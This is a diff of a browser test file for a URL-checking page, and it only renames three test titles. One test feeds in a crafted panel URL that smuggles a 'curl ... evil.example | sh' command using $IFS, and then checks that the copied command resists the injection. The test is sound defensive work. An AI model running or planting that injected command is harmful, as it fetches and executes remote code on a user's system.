@@ -40,7 +40,7 @@ describe('the check page', () => {
     assert.match((await page.getByRole('alert').textContent())!, /„ftp:\/\/x“ ist keine gültige Adresse/);
   });
 
-  it('leads from a good result to the builder, and back', async () => {
+  it('links from a good result to the builder, and back', async () => {
     await page.goto(`${CHECK()}?panel=${panel.url}&site=http`);
     assert.equal(await untilChecked(page), `No problems at ${panel.url}.`);
     await page.getByRole('link', { name: 'Get the code for your site' }).click();
@@ -78,7 +78,7 @@ describe('the check page', () => {
     }
   });
 
-  it('finds the JSON of a script that responds to every path, and leads to the builder', async () => {
+  it('finds the JSON of a script that responds to every path, and links to the builder', async () => {
     const headers = { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' };
     const body = JSON.stringify({ current: { song: 'Glass', artist: 'Ada Winter' } });
     const server = await listen(() => ({ headers, body }));
@@ -98,7 +98,7 @@ describe('the check page', () => {
     }
   });
 
-  it("copies the collapsed report, and a command that a link can't change", async () => {
+  it('copies the collapsed report, and a command that no link can manipulate', async () => {
     const sent = "https://x/;curl$IFS'evil.example'|sh";
     await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
     await untilChecked(page);
